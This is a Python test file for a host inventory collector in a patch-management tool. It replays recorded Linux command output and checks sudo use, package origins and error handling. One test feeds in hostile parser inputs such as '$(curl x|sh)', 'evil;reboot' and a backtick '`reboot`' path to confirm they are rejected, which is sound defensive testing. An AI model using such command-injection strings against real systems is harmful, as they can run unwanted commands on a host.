"""One host's whole collection, replayed from real testbed recordings: what comes out, what
is run (fixed commands only), and how failures and hostile output are handled."""

from __future__ import annotations

import asyncio
from collections import Counter

import pytest

from engine.collect.support import Clock, recording, replace_output, replay
from patchdesk.engine.collect import CollectOptions, OriginRules, collect_inventory, commands
from patchdesk.engine.model.inventory import OriginClass, RestartCheckMethod, ScanErrorCode
from patchdesk.engine.transport import (
    CommandResult,
    Elevation,
    PermissionDeniedError,
    RecordedCommand,
    Recording,
    ReplayTransport,
)

FIXED_COMMANDS = {
    value for name, value in vars(commands).items() if name.isupper() and isinstance(value, str)
}


def test_root_host_inventory() -> None:
    inventory = replay(recording("debian12-root"))
    assert inventory.error is None
    assert inventory.hostname == "h1"
    assert inventory.platform is not None
    assert inventory.platform.key == "debian:12"
    assert inventory.is_privileged
    assert len(inventory.packages) == 146
    assert {p.origin.kind for p in inventory.packages} == {OriginClass.OS_VENDOR}
    assert inventory.kernel is not None
    assert not inventory.kernel.is_running_packaged  # the testbed runs the machine's kernel
    assert inventory.restart is not None
    assert inventory.restart.method is RestartCheckMethod.PROC_MAPS
    assert inventory.restart.reboot_required is False
    assert inventory.out_of_scope == ()
    assert inventory.tls == ()
    assert inventory.warnings == ()
    assert inventory.started_at < inventory.finished_at


def test_scenario_host_through_sudo() -> None:
    rec = recording("debian12-scenarios-deploy-sudo")
    transport = ReplayTransport(rec)
    options = CollectOptions(origin_rules=OriginRules(apt_origins=("PatchdeskProvider",)))
    inventory = asyncio.run(collect_inventory(transport, options=options, clock=Clock()))
    assert inventory.error is None
    assert inventory.is_privileged
    origins = {p.name: p.origin.kind for p in inventory.packages if p.name.startswith("pdtest")}
    assert origins == {
        "pdtest-provider-tool": OriginClass.PROVIDER,
        "pdtest-acme-agent": OriginClass.THIRD_PARTY,
        "pdtest-local-build": OriginClass.LOCAL,
    }
    assert [s.service for s in inventory.tls if s.needs_passphrase] == ["apache2"]
    assert {i.path for i in inventory.out_of_scope} == {
        "/usr/local/bin/pdtest-tool",
        "/opt/acme/bin/acmed",
        "/opt/acme/lib/libacme.so.1",
    }
    assert inventory.restart is not None
    assert [s.name for s in inventory.restart.services] == ["pdtestd"]
    # the sudo probe runs first; the privileged checks go through sudo, the rest do not
    assert transport.calls[1] == (commands.SUDO_PROBE, True)
    as_root = {command for command, root in transport.calls if root}
    assert commands.PROC_EXES in as_root
    assert commands.DPKG_QUERY not in as_root


@pytest.mark.parametrize(
    "name",
    [
        "debian12-root",
        "debian12-scenarios-deploy-sudo",
        "debian12-needrestart-root",
        "debian12-unprivileged",
        "rpm-simulated-rocky9-deploy-sudo",
    ],
)
def test_only_fixed_commands_are_run(name: str) -> None:
    transport = ReplayTransport(recording(name))
    asyncio.run(collect_inventory(transport, clock=Clock()))
    for command, _ in transport.calls:
        assert command in FIXED_COMMANDS or command.startswith(
            commands.tls_key_check([]).split("for f in")[0]
        )


def test_needrestart_is_preferred_when_installed() -> None:
    inventory = replay(recording("debian12-needrestart-root"))
    assert inventory.restart is not None
    assert inventory.restart.method is RestartCheckMethod.NEEDRESTART
    assert [s.name for s in inventory.restart.services] == ["ssh"]


def test_unprivileged_login_says_what_it_could_not_check() -> None:
    inventory = replay(recording("debian12-unprivileged"))
    assert inventory.error is None
    assert not inventory.is_privileged
    assert len(inventory.packages) == 146
    assert inventory.restart is not None
    assert inventory.restart.method is RestartCheckMethod.NONE
    assert {w.code for w in inventory.warnings} == {"not_privileged"}


def test_hostile_and_garbled_output_is_rejected_line_by_line_never_a_crash() -> None:
    rec = recording("debian12-root")
    dpkg = next(c for c in rec.commands if c.command == commands.DPKG_QUERY).stdout
    hostile = (
        dpkg
        + b"ii \tevil;reboot\tamd64\t1.0\tevil\t1.0\t\n"
        + b"ii \t$(curl x|sh)\tamd64\t1.0\tx\t1.0\t\n"
        + b"\xff\xfe\xfd garbage \x00\x01\n"
        + b"ii \t"
        + b"z" * 100_000
        + b"\n"
        + b"ii \tcut-off\tamd64\t1."
    )
    rec = replace_output(rec, commands.DPKG_QUERY, hostile)
    rec = replace_output(
        rec,
        commands.FIND_LOCAL_SOFTWARE,
        b"/usr/local/bin/`reboot`\0/usr/local/bin/tool\n;id\0/usr/local/bin/ok\0",
    )
    inventory = replay(rec, match_stdin=False)
    assert inventory.error is None
    assert len(inventory.packages) == 146
    warnings = {w.source: w for w in inventory.warnings}
    assert warnings["dpkg-query"].count == 5
    assert warnings["dpkg-query"].code == "rejected_lines"
    assert warnings["find /usr/local /opt"].count == 1
    assert [i.path for i in inventory.out_of_scope] == [
        "/usr/local/bin/`reboot`",
        "/usr/local/bin/ok",
    ]


def test_truncated_package_list_is_flagged() -> None:
    rec = recording("debian12-root")
    dpkg = next(c for c in rec.commands if c.command == commands.DPKG_QUERY).stdout
    inventory = replay(
        replace_output(rec, commands.DPKG_QUERY, dpkg[:5000], is_truncated=True, exit_status=None),
        match_stdin=False,
    )
    assert inventory.error is None
    codes = Counter(w.code for w in inventory.warnings if w.source == "dpkg-query")
    assert codes == {"truncated": 1, "rejected_lines": 1}
    assert 0 < len(inventory.packages) < 146


def test_a_broken_package_database_is_command_failed() -> None:
    rec = replace_output(
        recording("debian12-root"),
        commands.DPKG_QUERY,
        b"",
        exit_status=2,
        stderr=b"dpkg-query: error: parsing file '/var/lib/dpkg/status' near line 3\n",
    )
    inventory = replay(rec)
    assert inventory.error is not None
    assert inventory.error.code is ScanErrorCode.COMMAND_FAILED
    assert "parsing file" in inventory.error.message
    assert inventory.platform is not None  # what was learned before the failure is kept


def test_an_unsupported_os_stops_after_identification() -> None:
    rec = recording("debian12-root")
    identity = next(c for c in rec.commands if c.command == commands.IDENTITY).stdout
    fedora = identity.replace(b"ID=debian", b"ID=fedora")
    transport = ReplayTransport(replace_output(rec, commands.IDENTITY, fedora))
    inventory = asyncio.run(collect_inventory(transport, clock=Clock()))
    assert inventory.error is not None
    assert inventory.error.code is ScanErrorCode.UNSUPPORTED_OS
    assert inventory.error.params["os_id"] == "fedora"
    assert inventory.platform is None
    assert inventory.packages == ()
    assert len(transport.calls) == 1


def test_refused_sudo_is_permission_denied() -> None:
    rec = recording("debian12-scenarios-deploy-sudo")
    commands_ = [
        c if c.command != commands.SUDO_PROBE
        else RecordedCommand(command=c.command, as_root=True, error=ScanErrorCode.PERMISSION_DENIED)
        for c in rec.commands
    ]  # fmt: skip
    rec = Recording(target=rec.target, elevation=Elevation.SUDO, commands=tuple(commands_))
    inventory = replay(rec)
    assert inventory.error is not None
    assert inventory.error.code is ScanErrorCode.PERMISSION_DENIED
    assert inventory.packages == ()


class _SudoRefusingTransport(ReplayTransport):
    async def run(
        self,
        command: str,
        *,
        stdin: bytes = b"",
        as_root: bool = False,
        timeout_s: float | None = None,
    ) -> CommandResult:
        if as_root:
            raise PermissionDeniedError("cannot become root: sudo refused the password")
        return await super().run(command, stdin=stdin, as_root=as_root, timeout_s=timeout_s)


def test_permission_denied_from_the_transport_itself() -> None:
    rec = recording("debian12-scenarios-deploy-sudo")
    transport = _SudoRefusingTransport(rec)
    inventory = asyncio.run(collect_inventory(transport, clock=Clock()))
    assert inventory.error is not None
    assert inventory.error.code == "permission_denied"


def test_rpm_host_inventory_from_real_rpm_and_dnf_output() -> None:
    options = CollectOptions(origin_rules=OriginRules(repo_ids=("provider-updates",)))
    inventory = replay(recording("rpm-simulated-rocky9-deploy-sudo"), options)
    assert inventory.error is None
    assert inventory.platform is not None
    assert inventory.platform.key == "rocky:9"
    assert {p.name: str(p.origin.kind) for p in inventory.packages} == {
        "rocky-base-tool": "os_vendor",
        "rocky-epoch-lib": "os_vendor",
        "epel-tool": "third_party",
        "provider-agent": "provider",
        "local-build": "local",
    }


def _with_error(rec: Recording, command: str, code: ScanErrorCode) -> Recording:
    commands_ = tuple(
        RecordedCommand(command=c.command, as_root=c.as_root, stdin=c.stdin, error=code)
        if c.command == command
        else c
        for c in rec.commands
    )
    return Recording(target=rec.target, elevation=rec.elevation, commands=commands_)


def test_a_slow_optional_check_is_skipped_with_a_warning() -> None:
    rec = _with_error(
        recording("debian12-root"), commands.FIND_LOCAL_SOFTWARE, ScanErrorCode.TIMEOUT
    )
    inventory = replay(rec)
    assert inventory.error is None
    assert len(inventory.packages) == 146
    assert [(w.source, w.code) for w in inventory.warnings] == [("out-of-scope check", "timeout")]


def test_a_lost_connection_during_optional_checks_fails_the_scan() -> None:
    rec = _with_error(recording("debian12-root"), commands.TLS_CONFIG, ScanErrorCode.UNREACHABLE)
    inventory = replay(rec)
    assert inventory.error is not None
    assert inventory.error.code is ScanErrorCode.UNREACHABLE
    assert inventory.platform is not None
